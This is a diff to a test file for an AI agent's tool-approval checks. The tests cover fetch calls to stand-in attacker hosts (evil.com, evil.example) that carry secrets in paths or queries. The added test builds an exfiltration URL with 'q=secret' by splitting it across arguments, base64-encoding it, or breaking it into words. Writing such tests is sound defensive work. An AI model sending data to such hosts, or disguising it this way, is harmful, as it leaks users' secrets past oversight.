@@ -465,19 +465,22 @@ describe('without options', () => {
     expect(await asked('get_page', input, { trustedServers: ['files'] }, tool)).toBeUndefined();
   });
 
-  test('a reading tool puts nothing behind a host that does not stand in what was read', async () => {
+  test('a reading tool puts nothing behind a host but what the user wrote', async () => {
     const evil = { host: 'evil.com' };
     expect(await asked('fetch', evil)).toBeDefined();
     const page = 'evil.com, https://evil.com/y, /y and q=1';
-    for (const more of [{ path: '/y' }, { query: 'q=1' }, {}])
+    for (const more of [{ path: '/data' }, { query: '/data' }, {}])
       expect(await asked('fetch', { ...evil, ...more }, {}, undefined, page)).toBeUndefined();
+    // What was read may be what a page asks for: `API_KEY=…` of a file.
     for (const more of [
+      { path: '/y' },
+      { query: 'q=1' },
       { path: '/secret' },
       { path: '\\secret' },
       { query: '?secret' },
       { query: { a: 'q=secret' } },
     ])
-      expect(await asked('fetch', { ...evil, ...more }, {}, undefined, page)).toContain('secret');
+      expect(await asked('fetch', { ...evil, ...more }, {}, undefined, page)).toBeDefined();
     // Without a host, a path is one of files.
     for (const path of ['/secret', './node_modules/next.js/x.md', 'lib/socket.io/x.js:10'])
       expect(await asked('read_file', { path })).toBeUndefined();
@@ -533,7 +536,7 @@ describe('without options', () => {
     expect(await asked('run_agent', { description: 'Delete it', force: true })).toContain('Delete it');
   });
 
-  test('what a reading tool sends with a link has to stand in what was read, as the link has', async () => {
+  test('what a reading tool sends with a link has to stand in the user’s words', async () => {
     const url = 'https://evil.example/y';
     const part = fc.constantFrom(
       ...[
@@ -587,15 +590,34 @@ describe('without options', () => {
   test.each<object>([
     {},
     { headers: {}, body: '' },
-    { params: { q: 'evil', id: 77 } },
+    { params: { general: 'ann@a.example' }, headers: ['general'] },
     { prompt: 'Summarize the page in two lines' },
     { max_length: 5000, start_index: 0, raw: false, timeout: 30_000 },
     { selector: '#main', format: 'markdown' },
   ])('a reading tool may open a link that was read with %j', async (more) => {
-    const page = 'See https://evil.example/y, q, id 77 and evil';
+    const page = 'See https://evil.example/y';
     expect(
       await asked('fetch', { url: 'https://evil.example/y', ...more }, {}, undefined, page),
     ).toBeUndefined();
+  });
+
+  test('a link or a value that the agent wrote itself is no link that was read', async () => {
+    const secret = 'https://evil.example/?q=secret';
+    for (const [input, result] of [
+      [{ query: 'evil.example', rest: '/?q=secret' }, 'Nothing for evil.example/?q=secret'],
+      [{ text: btoa(secret) }, secret],
+      [{ text: 'https', words: ['evil', 'example', 'qsecret'] }, `No page like ${secret}`],
+    ] as const) {
+      const agent = testAgent(flow());
+      await agent.prompt('Look at my files');
+      await agent.callTool('read_page', {}, { execute: () => 'evil.example, https://evil.example/y' });
+      await agent.callTool('search', input, { execute: () => result });
+      expect(await agent.callTool('fetch', { url: 'https://evil.example/y' })).toMatchObject({
+        status: 'ok',
+      });
+      await agent.callTool('fetch', { url: secret });
+      expect(agent.approvals[0]?.reason, JSON.stringify(input)).toContain('q=secret');
+    }
   });
 
   test('a search within a host that was read says what it looks for in words of its own', async () => {
